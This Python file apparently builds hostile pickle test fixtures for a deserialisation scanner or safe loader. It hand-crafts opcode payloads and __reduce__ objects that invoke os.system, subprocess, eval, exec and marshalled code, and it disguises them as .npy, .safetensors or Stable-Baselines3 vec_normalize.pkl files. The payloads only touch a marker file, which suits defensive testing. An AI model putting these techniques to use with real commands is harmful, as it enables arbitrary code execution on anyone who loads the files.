"""Pickles of every kind, bare and as ``vec_normalize.pkl``."""

from __future__ import annotations

import builtins
import copyreg
import functools
import importlib
import marshal
import os
import pickle
import runpy
import struct
import subprocess
import types
from collections.abc import Iterator
from pathlib import Path

import cloudpickle

from tools.hostile import CANARY, Calls, Hostile, Workshop


def _text(value: str) -> bytes:
    """The opcode of a text."""
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def by_hand(command: str) -> dict[str, bytes]:
    """Opcodes that pickling does not write nowadays, and unpickling still obeys."""
    arg = _text(command)
    setstate = b"c" + CANARY.encode() + b"\nEvil\n"
    return {
        "global-reduce": b"cos\nsystem\n(" + arg + b"tR.",
        "inst": b"(" + arg + b"ios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + arg + b"o.",
        "stack-global": b"\x80\x04" + _text("os") + _text("system") + b"\x93" + arg + b"\x85R.",
        "stack-global-dotted": b"\x80\x04" + _text(CANARY) + _text("touch.__call__") + b"\x93)R.",
        "newobj": b"\x80\x02" + setstate + b")\x81.",
        "newobj-ex": b"\x80\x04" + setstate + b")}\x92.",
        "build-setstate": b"\x80\x02" + setstate + b")\x81}b.",
        "memo-alias": b"\x80\x02cos\nsystem\nq\x01(" + arg + b"tq\x0200h\x01h\x02R.",
        "extension-registry": b"\x80\x02\x82\xf1(" + arg + b"tR.",
        "persistent-id": b"P" + command.replace("\n", " ").encode() + b"\n.",
        "binary-persistent-id": b"\x80\x02" + arg + b"Q.",
        "after-a-harmless-one": pickle.dumps({"a": 1}) + b"cos\nsystem\n(" + arg + b"tR.",
        "inside-a-tuple-key": b"\x80\x02}cos\nsystem\n(" + arg + b"tRK\x01s.",
    }


def by_reduction(shop: Workshop, name: str) -> dict[str, object]:
    """Objects whose pickles call something."""
    mark = shop.mark(name)
    code = f"open({str(mark)!r}, 'w').close()"
    function = types.FunctionType(compile(code, "payload", "exec"), {})
    return {
        "system": Calls(os.system, f"touch {mark}"),
        "popen": Calls(os.popen, f"touch {mark}"),
        "subprocess": Calls(subprocess.call, ["touch", str(mark)]),
        "eval": Calls(builtins.eval, code),
        "exec": Calls(builtins.exec, code),
        "open": Calls(builtins.open, str(mark), "w"),
        "path-touch": Calls(Path.touch, mark),
        "getattr": Calls(builtins.getattr, Calls(importlib.import_module, CANARY), "touch"),
        "partial": Calls(functools.partial(os.system, f"touch {mark}")),
        "import": Calls(importlib.import_module, CANARY),
        "run-module": Calls(runpy.run_module, CANARY),
        "nested-loads": Calls(pickle.loads, pickle.dumps(Calls(os.system, f"touch {mark}"))),
        "marshalled-code": Calls(builtins.exec, Calls(marshal.loads, marshal.dumps(function.__code__))),
        "in-a-dict-of-lists": {"a": [{"b": (Calls(os.system, f"touch {mark}"),)}]},
    }


def build(shop: Workshop) -> Iterator[Hostile]:
    """Files of one pickle each."""
    contents: dict[str, bytes] = {}
    for name, content in by_hand(f"touch {shop.mark('by-hand')}").items():
        contents[f"{name}.pkl"] = content
    for name, value in by_reduction(shop, "reduced").items():
        contents[f"reduce-{name}.pkl"] = pickle.dumps(value)
    for protocol in range(6):
        value = Calls(os.system, f"touch {shop.mark('protocols')}")
        contents[f"reduce-protocol-{protocol}.pkl"] = pickle.dumps(value, protocol)
    mark = str(shop.mark("cloudpickle"))
    contents["cloudpickled-function.pkl"] = cloudpickle.dumps(lambda: Path(mark).touch())
    contents["a-pickle-called.npz"] = contents["reduce-system.pkl"]
    contents["a-pickle-called.npy"] = contents["reduce-system.pkl"]
    contents["a-pickle-called.safetensors"] = contents["reduce-system.pkl"]
    contents["a-pickle-called.zip"] = contents["reduce-protocol-0.pkl"]
    contents["vec_normalize.pkl"] = _vec_normalize(shop)
    contents["vec_normalize-with-payload-in-epsilon.pkl"] = _vec_normalize(shop, epsilon=True)
    for name, content in contents.items():
        path = shop.place(name)
        path.write_bytes(content)
        yield Hostile(name, path)


def _vec_normalize(shop: Workshop, epsilon: bool = False) -> bytes:
    """As Stable-Baselines3 saves it, with a call in the place of one of its values."""
    import gymnasium as gym
    from stable_baselines3.common.vec_env import DummyVecEnv, VecNormalize

    normalizer = VecNormalize(DummyVecEnv([lambda: gym.make("CartPole-v1")]))
    payload = Calls(os.system, f"touch {shop.mark('vec_normalize')}")
    if epsilon:
        normalizer.epsilon = payload  # type: ignore[assignment]
    else:
        setattr(normalizer.obs_rms, "mean", payload)  # noqa: B010
    return pickle.dumps(normalizer)


def register_extension() -> None:
    """What `extension-registry` names: a program that uses the registry would have it."""
    if ("os", "system") not in copyreg._extension_registry:  # type: ignore[attr-defined]
        copyreg.add_extension("os", "system", 0xF1)
